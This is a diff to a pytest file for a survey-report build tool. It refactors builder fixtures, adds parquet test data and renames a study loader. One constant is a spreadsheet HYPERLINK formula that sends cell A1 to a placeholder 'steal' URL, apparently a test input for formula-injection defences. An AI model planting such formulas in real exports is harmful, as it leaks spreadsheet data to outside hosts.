@@ -12,10 +12,11 @@ import pandas as pd
 import pytest
 from conftest import HtmlReferences
 
-from analysis.report import registry
-from analysis.report.build import build_report, load_report_study, publishable
+from analysis.report import build
+from analysis.report.build import build_report, publishable
 from analysis.report.registry import ReportTable
 from analysis.report.writers import HEADER_ROW
+from analysis.study.load import load_study
 from analysis.study.schema import TABLES, conform
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/steal?x="&A1,"詳細")'
@@ -96,9 +97,11 @@ def write_processed_year(folder: Path, year: int, levels: list[str | None]) -> P
             }
         ]
     ).to_csv(folder / "issues.csv", index=False)
-    pd.DataFrame({"respondent_id": [f"U{i:02d}" for i in range(1, 11)], "fiscal_year": year, "level": levels}).to_csv(
-        folder / "maturity.csv", index=False
+    maturity = pd.DataFrame(
+        {"respondent_id": [f"U{i:02d}" for i in range(1, 11)], "fiscal_year": year, "level": levels}
     )
+    maturity.to_csv(folder / "maturity.csv", index=False)
+    maturity.to_parquet(folder / "maturity.parquet", index=False)
     (folder / "ingest.json").write_text(json.dumps({"edition": "fy2021", "fiscal_year": year}), encoding="utf-8")
     return folder
 
@@ -123,18 +126,22 @@ def _statements_builder(study, ctx):
     ]
 
 
+def _before(builders: list, name: str, entry: tuple) -> None:
+    """Insert builder ``entry`` into ``builders`` just before the one named ``name``."""
+    builders.insert([n for n, _ in builders].index(name), entry)
+
+
 @pytest.fixture
 def own_builders(monkeypatch):
     """The builders of this module's files plus a statements table (other modules' builders are
-    tested in their own files and in test_every_registered_builder_on_a_small_year)."""
-    registry.builders()  # import every builder module once
-    mine = {
-        name: entry
-        for name, entry in registry._REGISTRY.items()
-        if name.startswith(("records.", "appendix.", "year_over_year."))
-    }
-    mine["test.statements"] = (35, _statements_builder)
-    monkeypatch.setattr(registry, "_REGISTRY", mine)
+    tested in their own files and in test_every_registered_builder_on_a_small_year); the list the
+    build runs, so a test may add to it."""
+    mine = [
+        (name, fn) for name, fn in build.builders() if name.startswith(("records.", "appendix.", "year_over_year."))
+    ]
+    _before(mine, "year_over_year.disclosure_coverage", ("test.statements", _statements_builder))
+    monkeypatch.setattr(build, "builders", lambda: mine)
+    return mine
 
 
 @pytest.fixture(scope="module")
@@ -337,7 +344,7 @@ def test_a_failing_builder_is_listed_and_the_rest_still_written(own_builders, ye
     def broken(study, ctx):
         raise KeyError("no such column")
 
-    registry._REGISTRY["test.broken"] = (50, broken)
+    _before(own_builders, "appendix.ingest", ("test.broken", broken))
     _, current = years
     with pytest.warns(RuntimeWarning, match="test.broken"):
         out = build_report(current, tmp_path / "report")
@@ -362,7 +369,7 @@ def test_publish_leaves_out_respondent_level_tables_with_a_note_and_no_warning(o
             )
         ]
 
-    registry._REGISTRY["test.per_company"] = (36, per_company)
+    _before(own_builders, "year_over_year.disclosure_coverage", ("test.per_company", per_company))
     _, current = years
     with warnings.catch_warnings():
         warnings.simplefilter("error")
@@ -394,7 +401,7 @@ def test_an_interrupted_build_leaves_the_previous_report(own_builders, years, tm
 
 def test_derived_tables_are_loaded_beside_the_tidy_ones(years):
     _, current = years
-    study = load_report_study(current)
+    study = load_study(current)
     assert set(TABLES) <= set(study.tables)
     assert len(study.tables["maturity"]) == 10
     assert "issues" not in study.tables and len(study.issues) == 1
@@ -478,8 +485,8 @@ def test_every_table_with_counts_declares_a_layout(tmp_path):
 
     write_sample(tmp_path / "raw")
     ingest(tmp_path / "raw" / "2021", out_dir=tmp_path / "p", fiscal_year=2021, progress=False)
-    study = load_report_study(tmp_path / "p")
-    ctx = ReportContext(lang="en", publish=True, options={"suppression_k": 5})
+    study = load_study(tmp_path / "p")
+    ctx = ReportContext(lang="en", publish=True)
     items, failures = collect_items(study, ctx)
     assert not failures, failures
     tables = {t.name: t for t in items if isinstance(t, ReportTable) and t.counts}
